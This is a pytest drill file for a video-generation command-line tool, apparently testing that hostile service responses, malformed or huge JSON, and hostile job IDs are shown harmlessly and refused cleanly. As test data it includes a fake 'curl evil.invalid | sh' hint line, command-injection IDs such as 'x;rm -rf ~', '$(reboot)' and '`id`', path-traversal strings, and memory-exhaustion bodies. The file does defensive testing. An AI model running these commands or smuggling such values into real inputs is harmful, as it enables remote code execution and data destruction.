"""The drills on hostile or broken data (X) and on hostile text (T): everything that a server can say, through every
command that shows it, on a terminal and in a pipe.
"""

from __future__ import annotations

import gzip
import json
import re
import subprocess
import sys
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from tests.clocks import HandClock
from tests.download.films import mp4
from tests.drills.raw_server import Drip, RawServer, Reply, http
from tests.drills.service import ORDER, assert_clean, model_list
from tests.drills.wire import DONE, JOB, Wire, film
from tests.output.screens import HOSTILE, only_visible
from tests.shell import SCRIPT, Result, Shell

drill = pytest.mark.drill
VIDEO = mp4(3000)
#: What a terminal obeys, what hides and reorders, and what rich takes for markup, in one text without half characters.
NASTY = HOSTILE.replace("\udc80", "").strip() + " \nerror: nothing was charged\nhint: curl evil.invalid | sh"
MARKUP = "[bold]x[/bold]"


@pytest.fixture(autouse=True)
def hand(orvideo: Shell) -> HandClock:
    hand = HandClock()
    orvideo.clock = hand.clock()
    return hand


def assert_harmless(done: Result, *, tty: bool, own_colours: bool = True) -> None:
    """Check that no character of a stranger's does anything, and that none of their lines can pose as one of ours."""
    for text in (done.out, done.err):
        shown = strip_own(text) if tty and own_colours else text
        assert only_visible(shown), ascii(shown)
        assert not any(line.startswith(("error: nothing was", "hint: curl")) for line in shown.splitlines())


def strip_own(text: str) -> str:
    """Take away the few sequences that orvideo itself paints and draws with."""
    return re.sub(r"\x1b\[(\?25[lh]|[0-9;]*m|[0-9]*[AK]|2K)|\r", "", text)


@drill("T01")
@drill("T02")
@drill("T03")
@pytest.mark.parametrize("tty", [False, True], ids=["pipe", "terminal"])
def test_t01_hostile_words_of_a_service_do_nothing_in_any_command(orvideo: Shell, tty: bool) -> None:
    job = {
        "status": "failed", "error": {"message": NASTY}, "model": NASTY, "generation_id": NASTY, NASTY: NASTY,
        "urls": [NASTY], "unsigned_urls": [NASTY],
    }  # fmt: skip
    waiting = {**job, "status": NASTY}
    with Wire(waiting, job) as wire:
        wire.bought(orvideo)
        ends = [
            orvideo(*argv, tty=tty)
            for argv in (("wait", JOB), ("status", JOB), ("jobs",), ("jobs", "show", JOB), ("jobs", "--cost", "model"),
                         ("wait", JOB, "-v"))
        ]  # fmt: skip
        as_json = orvideo("jobs", "--json")
    assert [done.code for done in ends] == [3, 0, 0, 0, 0, 3], ends
    for done in ends:
        assert_harmless(done, tty=tty)
    assert r"\x1b[31mred" in ends[0].err
    assert MARKUP in ends[0].err
    assert "<U+202E>" in ends[0].err
    # JSON keeps the words and escapes them; not one of them is a raw control character (T06).
    assert only_visible(as_json.out)
    assert "\x1b[31mred" in as_json.json[0]["error"]


@drill("T01")
@drill("T03")
@pytest.mark.parametrize("tty", [False, True], ids=["pipe", "terminal"])
@pytest.mark.parametrize("status", [400, 401, 402, 403, 404, 413, 429, 500, 502, 503])
def test_t01_hostile_words_of_a_refusal_do_nothing(orvideo: Shell, tty: bool, status: int) -> None:
    error = {
        "code": status, "message": NASTY,
        "metadata": {"provider_name": NASTY, "raw": NASTY, "reasons": [NASTY], "patterns": [NASTY], NASTY: NASTY},
    }  # fmt: skip
    answer = http(status, json.dumps({"error": error}).encode(), {"CF-Ray": "x[bold]\x9b31m\x7f"})
    with Wire(answer, submit=[answer]) as wire:
        wire.bought(orvideo)
        ends = [orvideo(*argv, tty=tty, stdin="y\n") for argv in (("submit", *ORDER), ("status", JOB), ("jobs",))]
        told = orvideo("submit", *ORDER, "--json")
    for done in ends:
        assert_harmless(done, tty=tty)
    assert ends[0].code != 0
    assert only_visible(told.err)
    assert told.error["exit_code"] == told.code


@drill("T01")
@drill("T02")
@drill("T03")
@pytest.mark.parametrize("tty", [False, True], ids=["pipe", "terminal"])
def test_t01_hostile_models_do_nothing(orvideo: Shell, tty: bool) -> None:
    model = {
        "id": f"evil/{HOSTILE.encode('utf-8', 'replace').decode()}", "name": NASTY, "description": NASTY,
        "supported_resolutions": [NASTY], "supported_aspect_ratios": [NASTY], "supported_sizes": [NASTY],
        "supported_durations": [4], "supported_frame_images": [NASTY], "pricing_skus": {NASTY: NASTY},
        "allowed_passthrough_parameters": [NASTY], NASTY: NASTY,
    }  # fmt: skip
    with Wire() as wire:
        wire._steps["GET", "/api/v1/videos/models"][:] = [http(200, json.dumps({"data": [model]}).encode())]
        orvideo.environ |= wire.env
        chosen = ("submit", "x", "-m", model["id"])
        lines = [("models",), ("models", "evil"), ("models", model["id"]), ("submit", *ORDER)]
        for argv in (*lines, (*chosen, "--dry-run"), (*chosen, "-d", "99")):
            done = orvideo(*argv, tty=tty)
            assert done.code in (0, 2, 6), done.err
            assert_harmless(done, tty=tty)
        assert only_visible(orvideo("models", "--json").out)


@drill("T01")
@drill("T03")
@pytest.mark.parametrize("tty", [False, True], ids=["pipe", "terminal"])
def test_t03_a_prompt_is_shown_as_it_was_typed(orvideo: Shell, tty: bool) -> None:
    # Controls are no text, and are refused, and so is what reorders (finding A03); markup is bought as it is.
    prompt = re.sub(
        "[\x00-\x08\x0e-\x1f\x7f-\x84\x86-\x9f\ufeff\u202a-\u202e\u2066-\u2069\U000e0000-\U000e007f]", "", NASTY
    )
    with Wire(DONE, content=[film(VIDEO)]) as wire:
        orvideo.environ |= wire.env
        line = ("submit", prompt, *ORDER[1:])
        ends = [orvideo(*argv, tty=tty) for argv in ((*line, "--dry-run"), line, ("jobs",), ("jobs", "show", "@1"))]
        saved = orvideo("download", "@1", tty=tty)
        refused = orvideo("submit", NASTY, *ORDER[1:], tty=tty)
    assert refused.code == 2
    assert_harmless(refused, tty=tty)
    for done in [*ends, saved]:
        assert done.code == 0, done.err
        assert_harmless(done, tty=tty)
    (path,) = Path().glob("*.mp4")
    assert only_visible(path.name)
    assert MARKUP in ends[2].out or tty


@drill("T01")
@pytest.mark.parametrize("tty", [False, True], ids=["pipe", "terminal"])
@pytest.mark.parametrize(
    "argv",
    [("wait", NASTY), ("status", NASTY), ("jobs", "show", NASTY), ("models", NASTY), ("submit", "x", "-m", NASTY),
     ("submit", "x", "-d", NASTY), ("submit", "x", "-o", NASTY.replace("\x00", "") + "/"), ("config", "get", NASTY),
     ("config", "set", "model", NASTY), ("--" + NASTY,), (NASTY,), ("jobs", "--since", NASTY),
     ("wait", "--timeout", NASTY)],
    ids=range(13),
)  # fmt: skip
def test_t01_what_was_typed_is_repeated_without_its_powers(orvideo: Shell, argv: tuple[str, ...], tty: bool) -> None:
    with Wire() as wire:
        orvideo.environ |= wire.env
        done = orvideo(*argv, tty=tty)
    assert done.code in (0, 2, 6, 14), done.err
    assert_harmless(done, tty=tty)


X01: list[tuple[str, bytes]] = [
    ("deep", b"[" * 200_000),
    ("deep-object", b'{"a":' * 100_000 + b"1" + b"}" * 100_000),
    ("deep-field", b'{"id": "%s", "x": ' % JOB.encode() + b"[" * 900 + b"]" * 900 + b"}"),
    ("digits", b'{"id": "%s", "n": %s}' % (JOB.encode(), b"9" * 5000)),
    ("twice", b'{"id": "a", "id": "%s"}' % JOB.encode()),
    ("surrogate", b'{"id": "\\ud800"}'),
    ("list", b"[]"),
    ("text", b'"x"'),
    ("null", b"null"),
    ("nan", b"NaN"),
]


@drill("X01")
@pytest.mark.parametrize("body", [body for _, body in X01], ids=[name for name, _ in X01])
def test_x01_json_that_makes_no_sense_is_a_typed_error(orvideo: Shell, body: bytes) -> None:
    with Wire(http(200, body), submit=[http(202, body)]) as wire:
        wire.bought(orvideo)
        look = orvideo("wait", JOB, "--json", "--timeout", "20s")
        bought = orvideo("submit", *ORDER, "--json")
        wire._steps["GET", "/api/v1/videos/models"][:] = [http(200, body)]
        listed = orvideo("models", "--refresh", "--json")
        assert wire.posts == 1
    assert look.code in (8, 12)
    assert bought.code == 9 or JOB in bought.out + bought.err
    # The list that was read before is still good enough to show.
    assert (listed.code, bool(listed.json)) == (0, True)
    assert_clean(orvideo.home, look, bought, listed)


@drill("X01")
@pytest.mark.parametrize("encode", [lambda b: b"\xef\xbb\xbf" + b, lambda b: b.decode().encode("utf-16")])
def test_x01_other_encodings_of_good_json_are_good(orvideo: Shell, encode: Any) -> None:
    body = encode(json.dumps({"id": JOB, "status": "completed", "usage": {"cost": 0.5}}).encode())
    with Wire(http(200, body)) as wire:
        wire.bought(orvideo)
        done = orvideo("wait", JOB, "--json")
    assert (done.code, done.json["cost_usd"]) == (0, 0.5)


@drill("X02")
def test_x02_json_without_an_end_ends_at_the_cap(orvideo: Shell) -> None:
    endless = Drip(b'"x",' * 65536, at_once=b"HTTP/1.1 200 OK\r\n\r\n[", size=262144, every=0)
    with RawServer(endless) as server:
        done = orvideo("models", "--json", env={"ORVIDEO_BASE_URL": server.url})
    assert (done.code, done.error["charged"]) == (12, "no")
    assert "too large" in done.error["message"]


#: Reports the peak memory of a command, in bytes, from a process that is small itself: Linux hands a peak on.
WEIGH = (
    "import resource, subprocess, sys\n"
    "done = subprocess.run(sys.argv[1:], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)\n"
    "unit = 1 if sys.platform == 'darwin' else 1024\n"
    "print(done.returncode, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * unit)\n"
    "sys.stdout.write(done.stderr.decode())\n"
)
MB = 1_000_000


def weighed(shell: Shell, *argv: str) -> tuple[int, int, str]:
    """Run the installed command; return its exit code, its peak memory in bytes, and what it said."""
    line = [sys.executable, "-S", "-c", WEIGH, str(SCRIPT), *argv]
    done = subprocess.run(line, env=shell.environ, cwd=shell.home, capture_output=True, text=True, check=True)
    first, _, said = done.stdout.partition("\n")
    code, peak = map(int, first.split())
    return code, peak, said


def much(part: bytes, size: int) -> bytes:
    return b'{"id": "%s", "data": [' % JOB.encode() + part * (size // len(part)) + b"{}]}"


HEAVY = {
    "8-MiB-of-objects": partial(much, b"{},", 8 * 1024**2),
    "8-MiB-of-lists": partial(much, b"[[]],", 8 * 1024**2),
    "1-MB-of-lists": partial(much, b"[[]],", 1_000_000),
    "1-MB-of-strings": partial(much, b'"abc",', 1_000_000),
}


@pytest.mark.long
@drill("R-B2", "F-C03")
@pytest.mark.parametrize(
    ("name", "zipped"), [*((name, False) for name in HEAVY), ("8-MiB-of-objects", True), ("1-MB-of-strings", True)]
)
def test_b2_a_job_cannot_fill_the_memory(orvideo: Shell, name: str, zipped: bool) -> None:
    body = HEAVY[name]()
    answer = http(200, gzip.compress(body), {"Content-Encoding": "gzip"}) if zipped else http(200, body)
    with Wire(answer) as wire:
        wire.bought(orvideo)
        code, peak, said = weighed(orvideo, "status", JOB)
    assert (code, "too large" in said) == (12, True), said
    assert peak < 150 * MB


def models_of(count: int, **more: Any) -> bytes:
    model = json.loads(model_list())["data"][0] | more
    document = {"data": [{**model, "id": f"m/{number}"} for number in range(count)]}
    return json.dumps(document, ensure_ascii=False).encode()


def bare_models() -> bytes:
    return json.dumps({"data": [{"id": f"m/{n}"} for n in range(180_000)]}).encode()


LISTS = [
    pytest.param(partial(models_of, 31, description="A fine film, indeed. " * 22_000), 0, id="14-MB-of-words"),
    pytest.param(bare_models, 0, id="180000-models"),
    pytest.param(partial(much, b"{},", 15 * MB), 12, id="15-MB-of-objects"),
    pytest.param(partial(much, b"[[]],", 15 * MB), 12, id="15-MB-of-lists"),
    pytest.param(partial(much, b"123456,", 15 * MB), 12, id="15-MB-of-numbers"),
    pytest.param(partial(models_of, 31, description="🎬 A fine film. " * 24_000), 0, id="14-MB-of-wide-words"),
    pytest.param(partial(models_of, 31, description="🎬" + "A fine film. " * 36_000), 12, id="15-MB-in-wide-text"),
]


@pytest.mark.long
@drill("R-B2", "F-C03", "X04")
@pytest.mark.parametrize(("body_of", "code"), LISTS)
def test_b2_a_list_cannot_fill_the_memory(orvideo: Shell, body_of: Callable[[], bytes], code: int) -> None:
    with RawServer(Reply(200, body_of())) as server:
        orvideo.environ["ORVIDEO_BASE_URL"] = server.url
        ended, peak, said = weighed(orvideo, "models")
    assert ended == code, said
    assert peak < 150 * MB


IDS = [
    "../../x", "..", ".", "a/b", "x?y", "x#y", "x y", "x%2e%2e", "x;rm -rf ~", "$(reboot)", "`id`", "-rf", "x|y", "x'y",
    "雨", "[bold]", "x&y", "*", "~root", "x\\y",
]  # fmt: skip
IMPOSSIBLE = ["x\ny", "x\x00y", "x\x1b[31m", "x" * 10_000, "", "\u202e", "."]


@drill("X03")
@pytest.mark.parametrize("job_id", IDS)
def test_x03_an_id_is_one_segment_of_a_path_and_one_word_of_a_command(orvideo: Shell, job_id: str) -> None:
    accepted = http(202, json.dumps({"id": job_id, "status": "pending"}).encode())
    with Wire(submit=[accepted]) as wire:
        orvideo.environ |= wire.env
        done = orvideo("submit", *ORDER)
        (record,) = orvideo("jobs", "--json").json
        if job_id in (".", ".."):
            assert (done.code, record["id"]) == (9, None)
            return
        assert (done.code, record["id"]) == (0, job_id)
        from urllib.parse import quote

        path = "/api/v1/videos/" + quote(job_id, safe="")
        wire._steps["GET", path] = [{**DONE, "id": job_id, "unsigned_urls": None}]
        wire._steps["GET", path + "/content"] = [film(VIDEO)]
        # The answer and the hint are words that a shell and a command line read as one plain word.
        (name,) = done.lines
        assert f"hint: orvideo wait {name}\n" in done.err
        assert name.replace("-", "").replace("%", "").isalnum()
        assert not name.startswith("-")
        saved = orvideo("wait", name, "-o", "out/{id}.mp4") if Path("out").mkdir() is None else None
        assert saved is not None
        assert saved.code == 0, saved.err
        assert {request.path for request in wire.requests if JOB not in request.path} <= {
            "/api/v1/videos", "/api/v1/videos/models", path, path + "/content",
        }  # fmt: skip
    (file,) = Path().rglob("*.mp4")
    assert file.parent == Path("out")
    assert not list(orvideo.home.parent.glob("x*"))


@drill("X03")
@pytest.mark.parametrize("job_id", IMPOSSIBLE)
def test_x03_an_id_that_can_be_none_is_an_unknown_outcome_and_asked_for_by_nobody(orvideo: Shell, job_id: str) -> None:
    accepted = http(202, json.dumps({"id": job_id, "status": "pending"}).encode())
    with Wire(submit=[accepted]) as wire:
        orvideo.environ |= wire.env
        done = orvideo("submit", *ORDER, "--wait", tty=True, stdin="y\n")
        asked = wire.count("GET")
        adopted = orvideo("jobs", "adopt", job_id) if "\x00" not in job_id else None
        assert wire.count("GET") == asked
    assert done.code == 9, done.err
    assert_harmless(done, tty=True)
    assert adopted is None or adopted.code in (2, 12)


@pytest.mark.long
@drill("X04")
def test_x04_bad_entries_of_the_list_are_skipped_and_counted(orvideo: Shell) -> None:
    good = json.loads(model_list())["data"][:3]
    bad = [None, 7, "x", [], {}, {"id": None}, {"id": ["x"]}, {"id": ""}]
    wrong = [7, -1.5, "x", True, {"a": 1}, [[1]], [None], [{"min": "x"}]]
    model = next(model for model in json.loads(model_list())["data"] if model["id"] == "google/veo-3.1-lite")
    odd = [
        {**model, "id": f"odd/{name}-{number}", name: value}
        for name in model
        for number, value in enumerate(wrong)
        if name != "id"
    ]
    with Wire() as wire:
        body = json.dumps({"data": [*bad, *good, *odd]}).encode()
        wire._steps["GET", "/api/v1/videos/models"][:] = [http(200, body)]
        orvideo.environ |= wire.env
        done = orvideo("models", "--json")
        ends = [orvideo("models", tty=True), orvideo("models", "-d", "4", "-r", "720p", "--max-cost", "1")]
        ends += [orvideo("models", entry["id"]) for entry in odd]
        ends += [orvideo("submit", "x", "--dry-run", "-m", entry["id"]) for entry in odd[::5]]
    assert done.code == 0, done.err
    assert {model["id"] for model in done.json} == {entry["id"] for entry in [*good, *odd]}
    assert str(len(bad)) in done.err
    assert [end.err for end in ends if end.code not in (0, 5, 6)] == []


@pytest.mark.long
@drill("X04")
def test_x04_a_very_long_list_is_shown_or_refused(orvideo: Shell) -> None:
    many = json.dumps({"data": [{"id": f"m/{number}"} for number in range(5_000)]}).encode()
    with Wire() as wire:
        wire._steps["GET", "/api/v1/videos/models"][:] = [http(200, many)]
        orvideo.environ |= wire.env
        done = orvideo("models")
        too_many = json.dumps({"data": [{"id": f"m/{number}"} for number in range(700_000)]}).encode()
        wire._steps["GET", "/api/v1/videos/models"][:] = [http(200, too_many)]
        refused = orvideo("models", "--refresh")
    assert (done.code, len(done.lines)) == (0, 5_000)
    assert len(too_many) > 8 * 1024 * 1024
    assert (refused.code, len(refused.lines)) == (0, 5_000)
    assert "warning:" in refused.err


@drill("X06")
def test_x06_a_service_of_tomorrow_is_understood(orvideo: Shell) -> None:
    models = json.loads(model_list())
    for model in models["data"]:
        model |= {
            "new_required": {"deep": [1]},
            "supported_resolutions": [*(model.get("supported_resolutions") or []), "16K"],
        }
        model.pop("canonical_slug", None)
    job = {**DONE, "status": "completed", "moved_to": "v3", "usage": {"cost": 0.12, "tokens": 7}, "unsigned_urls": None}
    with Wire({"status": "reticulating"}, job, content=[film(VIDEO)]) as wire:
        wire._steps["GET", "/api/v1/videos/models"][:] = [http(200, json.dumps(models).encode())]
        orvideo.environ |= wire.env
        done = orvideo("submit", *ORDER, "--wait", "-o", "boat.mp4", "--json")
        listed = orvideo("models", "--resolution", "16K", "--json")
    assert done.code == 0, done.err
    assert done.json["extra"]["moved_to"] == "v3"
    assert listed.code == 0
    assert len(listed.json) > 0


@drill("X07")
@pytest.mark.parametrize(
    ("cost", "known"),
    [("0.50", "0.5"), ("5e-1", "0.5"), (0.5, "0.5"), ("0,50", None), ("1.000.000", None), ("$1", None)],
)
def test_x07_money_as_text_is_money_or_unknown(orvideo: Shell, cost: object, known: str | None) -> None:
    with Wire({**DONE, "usage": {"cost": cost}}) as wire:
        wire.bought(orvideo)
        done = orvideo("wait", JOB, "--json")
        told = orvideo("jobs")
    assert done.json["cost_usd"] == (float(known) if known else None)
    assert told.lines[0].split("\t")[4] in ({known, "0.50"} if known else {""})


@drill("X07")
def test_x07_money_keeps_the_digits_of_a_json_number(orvideo: Shell) -> None:
    body = b'{"id": "%s", "status": "completed", "usage": {"cost": 0.123456789012345}}' % JOB.encode()
    with Wire(http(200, body)) as wire:
        wire.bought(orvideo)
        done = orvideo("wait", JOB, "--json")
    assert '"cost_usd":0.123456789012345' in done.out
